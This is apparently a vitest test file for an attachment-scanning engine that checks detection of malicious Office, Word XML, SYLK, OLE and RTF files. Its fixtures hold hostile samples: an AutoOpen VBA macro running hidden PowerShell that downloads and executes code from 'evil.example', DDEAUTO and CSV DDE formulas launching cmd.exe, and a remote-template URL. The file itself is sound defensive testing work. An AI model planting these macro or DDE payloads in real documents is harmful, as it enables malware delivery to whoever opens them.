import { describe, expect, it } from 'vitest';
import { deflateSync } from 'node:zlib';
import { analyzeAttachments } from '../../../../src/engine/attachments/analyze-attachments.ts';
import { DEFAULT_LIMITS } from '../../../../src/engine/limits.ts';
import type { FileNode, MessageModel } from '../../../../src/core/message.ts';
import { attachment, cfbFile, docx, modelWith, vbaProject } from './fixtures/build-files.ts';

async function analyse(name: string, bytes: Uint8Array | string): Promise<{ nodes: FileNode[]; model: MessageModel; flags: string[] }> {
  const model = modelWith([attachment(name, bytes)]);
  await analyzeAttachments(model, DEFAULT_LIMITS);
  const nodes = model.attachments[0]!.explode!;
  return { nodes, model, flags: [...new Set(nodes.flatMap((n) => n.flags))] };
}

const MACRO = 'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "powershell -nop -w hidden -c iex(New-Object Net.WebClient).DownloadString(\'http://evil.example/a\')"\r\nEnd Sub\r\n';

describe('OOXML', () => {
  it('finds the VBA project of a docm and recovers the auto-exec macro source', async () => {
    const { nodes, flags } = await analyse('invoice.docm', await docx({ macro: MACRO }));
    expect(flags).toEqual(expect.arrayContaining(['ooxml', 'macro_enabled_type', 'vba_macro', 'vba_auto_exec']));
    const project = nodes.find((n) => n.file_name === 'word/vbaProject.bin')!;
    expect(project.scan.vba).toMatchObject({ modules: ['ThisDocument'], auto_exec: ['AutoOpen'] });
    expect((project.scan.vba as { suspicious: string[] }).suspicious).toEqual(expect.arrayContaining(['Shell']));
  });

  it('does not flag macros in a plain docx, and extracts its text', async () => {
    const { nodes, flags } = await analyse('figures.docx', await docx());
    expect(flags).toEqual(['ooxml']);
    expect((nodes[0]!.scan.strings as { raw: string }).raw).toContain('Quarterly figures attached.');
  });

  it('flags remote template injection and reports the template URL as a link', async () => {
    const rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
    const { flags, model } = await analyse('cv.docx', await docx({ parts: { 'word/_rels/settings.xml.rels': rels } }));
    expect(flags).toContain('remote_template');
    expect(model.body.links.map((l) => [l.parser, l.href_url.url])).toContainEqual(['attachment', 'https://evil.example/t.dotm']);
  });

  it('treats an external hyperlink relationship as a link, not as template injection', async () => {
    const rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.com/report" TargetMode="External"/></Relationships>';
    const { flags, model } = await analyse('report.docx', await docx({ parts: { 'word/_rels/document.xml.rels': rels } }));
    expect(flags).not.toContain('remote_template');
    expect(model.body.links.map((l) => l.href_url.url)).toContain('https://www.example.com/report');
  });

  it('finds a DDEAUTO field split across runs, and ignores a HYPERLINK field', async () => {
    const dde = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r></w:p>';
    expect((await analyse('dde.docx', await docx({ body: dde }))).flags).toContain('dde');
    const link = '<w:p><w:r><w:instrText> HYPERLINK "https://www.example.com/" </w:instrText></w:r></w:p>';
    expect((await analyse('link.docx', await docx({ body: link }))).flags).not.toContain('dde');
  });

  it('finds DDE formulas in a CSV and leaves ordinary formulas alone', async () => {
    expect((await analyse('data.csv', "name,total\n=cmd|' /C calc'!A0,3\n")).flags).toContain('dde');
    expect((await analyse('data.csv', 'name,total\nwidgets,=SUM(B1:B3)\n')).flags).not.toContain('dde');
  });
});

describe('Word 2003 XML', () => {
  it('unpacks the ActiveMime macro part (editdata.mso) and finds the VBA project in it', async () => {
    const mso = Buffer.concat([Buffer.from('ActiveMime', 'latin1'), Buffer.alloc(0x32 - 10), deflateSync(Buffer.from(vbaProject(MACRO)))]);
    const xml = `<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:docSuppData><w:binData w:name="editdata.mso">${mso.toString('base64')}</w:binData></w:docSuppData><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:wordDocument>`;
    const { nodes, flags } = await analyse('letter.xml', xml);
    expect(nodes[1]).toMatchObject({ file_name: 'editdata.mso', depth: 1, flavors: { mime: 'application/x-ole-storage', yara: [] } });
    expect(flags).toEqual(expect.arrayContaining(['vba_macro', 'vba_auto_exec']));
  });

  it('keeps real links from XML text but not namespace and schema URIs', async () => {
    const xml = '<?xml version="1.0"?><doc xmlns="http://schemas.microsoft.com/office/word/2003/wordml" xmlns:x="http://www.w3.org/1999/xhtml"><p>Visit https://portal.evil.example/login now</p><ref>http://schemas.openxmlformats.org/x</ref></doc>';
    const { model } = await analyse('notice.xml', xml);
    expect(model.body.links.map((l) => l.href_url.url)).toEqual(['https://portal.evil.example/login']);
  });

  it('leaves a Word 2003 XML without binary parts alone', async () => {
    const xml = '<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:wordDocument>';
    const { nodes, flags } = await analyse('letter.xml', xml);
    expect(nodes).toHaveLength(1);
    expect(flags).toEqual([]);
  });
});

describe('SYLK', () => {
  it('flags Excel 4 macro functions in SYLK cells, not plain values', async () => {
    expect((await analyse('a.slk', 'ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC("calc.exe")\nC;Y2;K0;EHALT()\nE\n')).flags).toContain('xlm_macro');
    expect((await analyse('a.slk', 'ID;PWXL;N;E\nC;Y1;X1;K42\nC;Y2;X1;K0;ESUM(R1C1)\nE\n')).flags).not.toContain('xlm_macro');
  });
});

describe('legacy OLE', () => {
  it('finds a VBA project in a .doc', async () => {
    const doc = cfbFile({ '/WordDocument': new Uint8Array(64), '/Macros/VBA/dir': new Uint8Array([1, 2, 3]), '/Macros/VBA/_VBA_PROJECT': new Uint8Array(7) });
    expect((await analyse('old.doc', doc)).flags).toContain('vba_macro');
  });

  it('finds an Excel 4 macro sheet in a workbook stream', async () => {
    // BOUNDSHEET record (0x0085): position u32, visibility u8, sheet type u8 = 1 (macro sheet), then the name.
    const boundsheet = Buffer.from([0x85, 0x00, 0x0a, 0x00, 0, 0, 0, 0, 0x00, 0x01, 0x04, 0x00, 0x4d, 0x31]);
    const eof = Buffer.from([0x0a, 0x00, 0x00, 0x00]);
    const bof = Buffer.from([0x09, 0x08, 0x04, 0x00, 0x00, 0x06, 0x05, 0x00]);
    const xls = cfbFile({ '/Workbook': Buffer.concat([bof, boundsheet, eof]) });
    expect((await analyse('report.xls', xls)).flags).toContain('xlm_macro');
    const plain = Buffer.concat([bof, Buffer.from([0x85, 0x00, 0x0a, 0x00, 0, 0, 0, 0, 0x00, 0x00, 0x04, 0x00, 0x53, 0x31]), eof]);
    expect((await analyse('report.xls', cfbFile({ '/Workbook': plain }))).flags).not.toContain('xlm_macro');
  });

  it('recognises an encrypted OOXML package', async () => {
    const enc = cfbFile({ '/EncryptionInfo': new Uint8Array(16), '/EncryptedPackage': new Uint8Array(64) });
    expect((await analyse('salary.xlsx', enc)).flags).toContain('encrypted_document');
  });

  it('unpacks the file carried by an Ole10Native object', async () => {
    const payload = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]);
    const native = Buffer.concat([
      Buffer.alloc(4), Buffer.from([2, 0]), Buffer.from('setup.exe\0C:\\tmp\\setup.exe\0', 'latin1'), Buffer.alloc(8),
      Buffer.from('C:\\tmp\\setup.exe\0', 'latin1'), Buffer.from(Uint32Array.of(payload.length).buffer), payload,
    ]);
    const doc = cfbFile({ '/WordDocument': new Uint8Array(64), '/ObjectPool/_1/\x01Ole10Native': native });
    const { nodes, flags } = await analyse('letter.doc', doc);
    expect(flags).toContain('ole_embedded_object');
    const child = nodes.find((n) => n.depth === 1)!;
    expect(child).toMatchObject({ file_name: 'setup.exe', flavors: { mime: 'application/x-dosexec', yara: [] } });
    expect(child.flags).toContain('dangerous_type');
  });

  it('finds the VBA project PowerPoint 97-2003 keeps compressed in an ExOleObjStg record', async () => {
    const project = Buffer.from(vbaProject(MACRO));
    const packed = deflateSync(project);
    const record = Buffer.alloc(12);
    record.writeUInt16LE(0x0010, 0); // version 0, instance 1: compressed
    record.writeUInt16LE(0x1011, 2);
    record.writeUInt32LE(packed.length + 4, 4);
    record.writeUInt32LE(project.length, 8);
    const ppt = cfbFile({ '/PowerPoint Document': Buffer.concat([Buffer.alloc(40, 0x0f), record, packed]), '/Current User': new Uint8Array(20) });
    const { nodes } = await analyse('deck.ppt', ppt);
    expect(nodes[1]).toMatchObject({ file_name: 'ppt_object_1.bin', depth: 1 });
    expect(nodes[1]!.flags).toEqual(expect.arrayContaining(['vba_macro', 'vba_auto_exec']));
    expect((await analyse('deck.ppt', cfbFile({ '/PowerPoint Document': Buffer.alloc(200, 0x0f) }))).nodes).toHaveLength(1);
  });

  it('does not flag a vbaProject-less OLE document', async () => {
    const { flags } = await analyse('old.doc', cfbFile({ '/WordDocument': new Uint8Array(64) }));
    expect(flags).toEqual([]);
  });

  it('reads the VBA project by itself (as found inside OOXML)', async () => {
    const { nodes } = await analyse('vbaProject.bin', vbaProject(MACRO));
    expect(nodes[0]!.flags).toEqual(expect.arrayContaining(['vba_macro', 'vba_auto_exec']));
  });
});

describe('RTF', () => {
  it('flags an embedded object set to update on open', async () => {
    const rtf = '{\\rtf1{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000}}}';
    const { flags } = await analyse('doc.rtf', rtf);
    expect(flags).toEqual(expect.arrayContaining(['rtf_object', 'rtf_objupdate']));
  });

  it('does not take an escaped \\\\objupdate (text about RTF) for the control word', async () => {
    const { flags } = await analyse('spec.rtf', '{\\rtf1 The control word {\\b \\\\objupdate} forces an update; see also \\\\objdata.\\par}');
    expect(flags).toEqual([]);
  });

  it('does not flag a plain RTF letter', async () => {
    const { flags, nodes } = await analyse('letter.rtf', '{\\rtf1\\ansi{\\fonttbl\\f0\\fswiss Helvetica;}\\f0\\pard Dear customer, thanks.\\par}');
    expect(flags).toEqual([]);
    expect((nodes[0]!.scan.strings as { raw: string }).raw).toContain('Dear customer');
  });
});
